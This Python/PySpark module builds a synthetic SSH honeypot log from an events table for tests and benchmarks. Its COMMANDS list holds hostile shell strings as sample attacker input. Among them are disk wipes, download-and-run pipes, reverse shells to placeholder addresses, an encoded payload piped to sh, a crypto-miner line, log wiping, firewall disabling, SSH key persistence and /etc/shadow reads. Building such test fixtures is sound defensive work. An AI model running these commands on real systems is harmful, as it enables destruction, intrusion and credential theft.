"""The ``events`` table read as a sensor's log, for tests and benchmarks without logs at hand.

Both engines read the same CASE expressions and lists; everything after them is computed apart.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

COMMANDS: tuple[str, ...] = (
    "rm -rf /", "rm -rf *", "rm -r -f /tmp/*", "kill -9 123", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sda1", "shutdown -h now", "init 6",
    "./x.sh && echo ok", 'bash -c "id"', "sh -c id", "perl -e print", "python3 -c 'import os'", "source a.sh", ". ./a", "nohup ./m &", "eval $(x)",
    "chmod +x a && ./a", "wget http://1.2.3.4/a | sh", "CURL -o /tmp/a ftp://h/x", "nc -l -p 1 -e /bin/sh", "bash -i >& /dev/tcp/1.1.1.1/80",
    "python -c 'import socket;s.connect();os.dup2'", "perl socket connect", "tftp -g -r x 1.1.1.1", "wget http://a -O b",
    "echo d2dldCBodHRwOi8veC95IC1PIC90bXAvYTsgcm0gLXJmIC8= | base64 -d | sh", "base64 --decode <<< eG1yaWcgLS1kb25hdGUtbGV2ZWwgMQ==", "base64 -d /tmp/f",
    "xmrig -o stratum+tcp://p:1 --donate-level 1", "minerd cpuminer nicehash cryptonight", "history -c; unset HISTFILE", "HISTSIZE=0",
    "rm /var/log/wtmp ~/.bash_history", "echo > /var/log/lastlog", "x 2>/dev/null &>/dev/null", "systemctl stop x", "service iptables stop", "ufw disable",
    "setenforce 0", "iptables -F", "crontab -l", "cat /etc/crontab", "echo a >> /etc/rc.local", "ls /etc/init.d/", "systemctl enable x", "echo a >> ~/.bashrc",
    "echo k >> ~/.ssh/authorized_keys", "sudo su", "su -", "su root", "chmod 777 a", "chmod 4755 a", "chown root a", "cat /etc/shadow", "echo x >> /etc/passwd",
    "passwd root", "useradd a; adduser b; usermod c", "echo 'a:b' | chpasswd", "uname -a", "w", "w; who", "last | head", "cat /etc/passwd", "whoami && id",
    "hostname; ifconfig; ip addr; ip a", "netstat -an; ss -tlnp; ps aux; ps -ef", "df -h; free -m; lscpu; nproc; uptime; ls -la",
    "find / -name x; env; printenv; dmesg", "cat /proc/cpuinfo; dmidecode; virt-what; cat /.dockerenv", "echo -e '\\x41\\x42\\x43' | sh", "echo 0xFF 0xdead",
    "exit; help; shell; bash", "scp a b; ping 8.8.8.8; reboot; crontab -e; wc -l", "ls;w;id", "unme", "hello", "enable", "foo", "curl http://a | bash",
    "system", "shell", "configure terminal", "zzzzqqq", "helo wrld",
)
USERS = ("root", "admin", "ubuntu", "oracle", "Root", "pi")
PASSWORDS = ("123456", "Admin", "root", "hunter2", "toor", "s3cret!", "PASSWORD")
VERSIONS = ("SSH-2.0-OpenSSH_8.2", "SSH-2.0-libssh-0.9", "SSH-2.0-Go", "SSH-2.0-PuTTY_0.7", "masscan 1.0", "SSH-2.0-weird", "SSH-2.0-paramiko_2")

KIND = """CASE event_type WHEN 'signup' THEN CASE WHEN event_id % 3 = 0 THEN 'login.success' ELSE 'session.connect' END
    WHEN 'error' THEN 'login.failed' WHEN 'click' THEN 'command.input'
    WHEN 'purchase' THEN CASE WHEN event_id % 4 = 0 THEN 'session.file_download' ELSE 'command.failed' END
    ELSE CASE event_id % 10 WHEN 0 THEN 'session.closed' WHEN 5 THEN 'session.closed' WHEN 1 THEN 'client.version' WHEN 2 THEN 'session.file_upload'
        WHEN 7 THEN 'direct-tcpip.request' WHEN 6 THEN 'client.kex' ELSE 'command.input' END END"""
#: An address for each event: some private, some in ``GEO``.
IP = """CASE event_id % 5 WHEN 0 THEN concat('10.0.', event_id % 256, '.1') WHEN 1 THEN concat('172.', event_id % 40, '.3.4')
    WHEN 2 THEN concat('81.2.', event_id % 256, '.7') ELSE concat(1 + event_id % 220, '.20.30.', event_id % 256) END"""
#: (first, last address, continent, country, code, region, city, longitude, latitude, time zone, radius)
GEO = (
    ("81.2.0.0", "81.2.127.255", "EU", "United Kingdom", "GB", "England", "London", -0.1, 51.5, "Europe/London", 10),
    ("20.0.0.0", "29.255.255.255", "NA", "United States", "US", "Virginia", "Ashburn", -77.5, 39.0, "America/New_York", 20),
    ("100.0.0.0", "119.255.255.255", "AS", "Japan", "JP", "", "", 139.7, 35.7, "Asia/Tokyo", 100),
)
GEO_SCHEMA = "low string, high string, continent_code string, country_name string, country_iso string, region_name string, city_name string, longitude double, latitude double, timezone string, accuracy_radius int"


def sql_list(items: tuple[str, ...], spark: bool) -> str:
    quoted = ", ".join("'" + (x.replace("\\", "\\\\").replace("'", "\\'") if spark else x.replace("'", "''")) + "'" for x in items)
    return f"array({quoted})" if spark else f"[{quoted}]"


def pick(items: tuple[str, ...], index: str, spark: bool) -> str:
    at = f"CAST(({index}) % {len(items)} + 1 AS INT)"
    return f"element_at({sql_list(items, True)}, {at})" if spark else f"({sql_list(items, False)})[{at}]"


def columns(spark: bool) -> dict[str, str]:
    """Expressions of the log's columns over ``events``, the kind being known."""
    only = lambda kinds, x: f"CASE WHEN kind IN ({', '.join(repr(k) for k in kinds)}) THEN {x} END"
    logins, commands, files = ("login.success", "login.failed"), ("command.input", "command.failed"), ("session.file_download", "session.file_upload")
    return {
        "src_ip": IP,
        "src_port": only(["session.connect"], "CAST(40000 + event_id % 20000 AS INT)"),
        "dst_ip": only(["session.connect", "direct-tcpip.request"], "concat('192.168.0.', event_id % 9)"),
        "dst_port": only(["session.connect", "direct-tcpip.request"], "CAST(CASE event_id % 4 WHEN 0 THEN 0 WHEN 1 THEN 23 WHEN 2 THEN 2222 END AS INT)"),
        "protocol": only(["session.connect"], "CASE event_id % 3 WHEN 0 THEN 'ssh' WHEN 1 THEN 'telnet' END"),
        "ssh_version": only(["client.version"], pick(VERSIONS, "event_id", spark)),
        "hassh": only(["client.kex"], "concat('h', event_id % 12)"),
        "username": only(logins, f"CASE WHEN event_id % 13 <> 0 THEN {pick(USERS, 'event_id', spark)} END"),
        "password": only(logins, pick(PASSWORDS, "event_id", spark)),
        "input": only(commands, f"CASE WHEN event_id % 17 <> 0 THEN {pick(COMMANDS, 'event_id * 7 + user_id', spark)} ELSE '' END"),
        "url": only(files[:1], "CASE WHEN event_id % 3 <> 0 THEN concat('http://h/', event_id) END"),
        "shasum": only(files, "concat('s', event_id % 99)"),
        "outfile": only(files[:1], "'out'"),
        "destfile": only(files[1:], "'dest'"),
        "duration": only(["session.closed"], "CASE WHEN event_id % 4 <> 0 THEN value END"),
    }


def log_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return as_log(spark.read.parquet(f"{sf_dir}/events.parquet"))


def events_stream(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The same rows as a stream."""
    schema = spark.read.parquet(f"{sf_dir}/events.parquet").schema
    return as_log(spark.readStream.schema(schema).option("pathGlobFilter", "events.parquet").parquet(sf_dir))


def as_log(events: DataFrame) -> DataFrame:
    events = events.select("event_id", "user_id", "value", F.col("ts").cast("timestamp").alias("ts"), F.expr(KIND).alias("kind"))
    return events.select(
        F.lit("decoy").alias("location"), F.concat(F.lit("u"), "user_id").alias("session"), F.col("event_id").alias("seq"), "user_id", "kind", "ts",
        *[F.expr(x).alias(k) for k, x in columns(True).items()], F.lit(None).cast("string").alias("hassh_algorithms"), F.concat(F.lit("f"), F.col("event_id") % 3).alias("source_file"),
    )


def log_sql() -> str:
    """CTE ``ev`` of the same rows in DuckDB."""
    cols = ", ".join(f"{x} AS {k}" for k, x in columns(False).items())
    return f"""ev0 AS (SELECT event_id, user_id, value, ts, {KIND} AS kind FROM events),
        ev AS (SELECT 'decoy' AS location, 'u' || user_id AS session, event_id AS seq, user_id, kind, ts, {cols}, 'f' || (event_id % 3) AS source_file FROM ev0)"""


def geo_ranges(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame(list(GEO), GEO_SCHEMA)
